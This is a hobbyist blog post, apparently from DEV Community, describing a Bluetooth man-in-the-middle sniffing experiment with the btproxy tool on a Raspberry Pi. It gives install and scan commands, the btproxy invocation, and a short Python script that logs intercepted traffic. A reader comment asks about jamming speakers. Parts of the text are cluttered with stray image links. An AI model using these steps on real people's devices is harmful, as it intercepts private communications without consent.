DEV Community


Posted on

Security Sprint Week 10 & 11: Bluetooth hacking

I've been quite in many things lately, which didn't allow me to study all I wanted to. I'm mainly in two things, distributed ledger experiments and hardware. But I've had in mind a hacking experiment for quite a long time, and finally I decided to try it. It's a Man In The Middle attack (or sniffing) over bluetooth connections using a python repository, I think I will omit for what I wanted to know that.Anyway, what I want to do here is to catch a connection between two nodes using bluetooth. The first idea is only to capture the content of the connection. For this I need a linux system, in this case I'm using debian based Raspbian in the RPi 3.

On it, I install some packages and clone the repo of the tool on github (git needed here, btw):

$ sudo apt-get install bluez libbluetooth-dev python-dev
$ git clone git://

Enter fullscreen mode Exit fullscreen mode

For installing the tool, simply use sudo python install.

Now we need to get the MAC address of the both nodes.

$ hcitool scan
Enter fullscreen mode Exit fullscreen mode

Once we have them, we can use them in the most basic MITM attack the tool offer, like this:

$ sudo btproxy <master-bt-mac-address> <slave-bt-mac-address>
Enter fullscreen mode Exit fullscreen mode

The master is the device the sends the connection request and the slave isthe device listening for something to connect to it. We can make it better passing a custom script for slave and master, as explained in the README. for this we use btproxy -s SCRIPT being the script something like this:

def master_cb(req):
        Received something from master, about to be sent toslave.
    print '<< ', repr(req)
    open('mastermessages.log', 'a+b').write(req)
    return req

def slave_cb(res):
        Same as above but it's from slave about to be sent to master
    print '>> ', repr(res)
    open('slavemessages.log', 'a+b').write(res)
    return res
Enter fullscreen mode Exit fullscreen mode

I must say this tool confusing when using two nodes being equal, such as two mobiles phones, and didn't work properly. Also for that kind of sniffing I would suggest this repo instead, which also prepares a .pcap file out of the scanning for the phone traffic, but it might needs hardware support, if you have an arduino youcan make your own, tho. On the other hand, another alternative is BTJuice,which also works with python + NodeJS. This tool is very complete and includes an user-friendly interface for using in localhost. Also the commands are very similar to the ones used in btproxy.

Anyway this is everything I got until now!

Top comments (1)

jadolg profile image
Jorge Alberto Díaz Orozco (Akiel)

Nice post :) I'm actually interested in jamming/interrupting bluetooth connections to disconnect annoying bluetooth speakers. Any ideas?